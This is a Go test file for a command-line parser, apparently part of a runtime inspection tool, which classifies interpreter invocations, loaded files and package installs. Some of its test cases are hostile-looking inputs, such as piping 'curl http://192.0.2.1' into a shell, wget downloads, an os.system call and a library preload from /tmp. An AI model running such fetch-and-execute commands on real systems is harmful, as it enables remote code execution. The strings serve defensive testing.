package command_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/backtrail/backtrail/inspect/command"
)

func TestParse(t *testing.T) {
	code, script, input := command.Code, command.Script, command.Input
	for _, tt := range []struct {
		program, line string
		kind          command.Kind
		target        string
	}{
		{"/usr/local/bin/python3.12", "python -m gateway", command.Module, "gateway"},
		{"/usr/bin/python3", "python3 -Im http.server 80", command.Module, "http.server"},
		{"/usr/bin/python3", "python3 -W ignore -X utf8 /srv/app.py --port 80", script, "/srv/app.py"},
		{"/usr/bin/python3", "python3 -c import os; os.system('id')", code, "import os; os.system('id')"},
		{"/usr/bin/python3", "python3 -", input, ""},
		{"/usr/bin/python3.11", "celery /usr/local/bin/celery -A app worker", script, "/usr/local/bin/celery"},
		{"/usr/local/bin/node", "/usr/local/bin/node server.js", script, "server.js"},
		{"/usr/local/bin/node", "node --require /opt/hook.js --max-old-space-size=512 dist/main.js", script, "dist/main.js"},
		{"/usr/local/bin/node", "node -e require('net')", code, "require('net')"},
		{"/usr/local/bin/bun", "bun run index.ts", script, "index.ts"},
		{"/usr/bin/deno", "deno run --allow-net main.ts", script, "main.ts"},
		{"/opt/java/openjdk/bin/java", "java -Xmx1g -jar /app/app.jar --x", command.Jar, "/app/app.jar"},
		{"/usr/bin/java", "java -cp /app/lib/a.jar:/app/lib/b.jar -Da=b com.example.Main", command.Class, "com.example.Main"},
		{"/usr/bin/java", "java --add-opens java.base/java.lang=ALL-UNNAMED -m app/com.example.Main", command.Class, "app/com.example.Main"},
		{"/usr/bin/ruby3.1", "ruby -I lib -rjson /app/run.rb", script, "/app/run.rb"},
		{"/usr/bin/perl", "perl -we print 1", code, "print 1"},
		{"/usr/bin/perl", "perl -I /lib /srv/x.pl", script, "/srv/x.pl"},
		{"/usr/local/bin/php", "php -d memory_limit=1G artisan queue:work", script, "artisan"},
		{"/usr/local/sbin/php-fpm", "php-fpm: pool www", input, ""},
		{"/usr/bin/dotnet", "dotnet Shop.dll", script, "Shop.dll"},
		{"/usr/bin/bash", "bash", input, ""},
		{"/usr/bin/bash", "bash -i", input, ""},
		{"/usr/bin/bash", "bash -lc curl http://192.0.2.1 | sh", code, "curl http://192.0.2.1 | sh"},
		{"/usr/bin/dash", "15-resolver-cac /docker-entrypoint.d/15-resolver-cache.sh", script, "/docker-entrypoint.d/15-resolver-cache.sh"},
		{"/usr/bin/dash", "sh -e /srv/start.sh -c x", script, "/srv/start.sh"},
		{"/bin/busybox", "sh /start.sh", script, "/start.sh"},
		{"/bin/busybox", "busybox sh -c id", code, "id"},
		{"/bin/busybox", "start.sh /srv/start.sh", script, "/srv/start.sh"},
		{"/bin/busybox", "wget http://192.0.2.1/x", "", ""},
		{"/usr/bin/env", "env -i PATH=/bin python3 /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/timeout", "timeout -k 5 10 /srv/run -v", command.Program, "/srv/run"},
		{"/sbin/tini", "tini -g -- sh /srv/x.sh", script, "/srv/x.sh"},
		{"/usr/sbin/gosu", "gosu redis redis-server", command.Program, "redis-server"},
		{"/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2 --library-path /lib /tmp/x", command.Program, "/tmp/x"},
		{"/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64.so.1 --preload /tmp/h.so /usr/bin/python3 /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/curl", "curl -O http://192.0.2.1/x", "", ""},
		{"/srv/run", "run --all", "", ""},
		{"/usr/bin/python3", "", input, ""},
	} {
		r := command.Parse(tt.program, tt.line)
		if r.Kind != tt.kind || r.Target != tt.target {
			t.Errorf("%s %q: %s %q, want %s %q", tt.program, tt.line, r.Kind, r.Target, tt.kind, tt.target)
		}
	}
}

func TestWhatIsLoaded(t *testing.T) {
	for line, want := range map[string][]string{
		"node --require /opt/hook.js --import=./b.mjs server.js":              {"/opt/hook.js", "./b.mjs"},
		"java -javaagent:/opt/agent.jar=x=y -cp /lib/*:/app com.example.Main": {"/opt/agent.jar", "/lib/*", "/app"},
		"bash --rcfile /tmp/rc":    {"/tmp/rc"},
		"ruby -rjson -r ./x a.rb":  {"json", "./x"},
		"ld.so --preload /a:/b /c": {"/a", "/b"},
	} {
		program, _, _ := strings.Cut(line, " ")
		if got := command.Parse("/usr/bin/"+program, line).Loads; !reflect.DeepEqual(got, want) {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func TestRoles(t *testing.T) {
	for program, want := range map[string]command.Role{
		"/usr/local/bin/python3.12": command.Interpreter, "/usr/bin/pypy3": command.Interpreter, "/bin/sh": command.Interpreter,
		"/lib64/ld-linux-x86-64.so.2": command.Launcher, "/bin/busybox": command.Launcher, "/usr/bin/env": command.Launcher,
		"/usr/bin/apt-get": command.Tool, "/usr/bin/pip3.12": command.Tool, "/bin/nc": command.Tool,
		"/usr/sbin/nginx": command.Other, "/srv/pythonic": command.Other, "": command.Other,
	} {
		if got := command.RoleOf(program); got != want {
			t.Errorf("%s: %q, want %q", program, got, want)
		}
	}
}

func TestInstalls(t *testing.T) {
	for line, want := range map[string]bool{
		"sh -c apt-get update && apt-get install -y nmap": true, "sh -c apk add --no-cache curl": true, "sh -c pip install x": true,
		"sh -c echo pip": false, "sh -c curl x | sh": false, "apt-get install -y nmap": true, "curl x": false,
	} {
		program, _, _ := strings.Cut(line, " ")
		if got := command.Parse("/usr/bin/"+program, line).Installs; got != want {
			t.Errorf("%s: %v", line, got)
		}
	}
}

// Programs that start one another without end stop at a bound, and no words make the parser panic.
func FuzzParse(f *testing.F) {
	f.Add("/usr/bin/env", strings.Repeat("env ", 400))
	f.Add("/bin/busybox", "busybox busybox sh -c x")
	f.Add("/usr/bin/java", "java -cp")
	f.Add("/usr/bin/perl", "perl -")
	f.Fuzz(func(t *testing.T, program, line string) {
		if r := command.Parse(program, line); len(r.Loads) > 64 || len(r.Target) > command.MaxLine {
			t.Errorf("%+v", r)
		}
	})
}
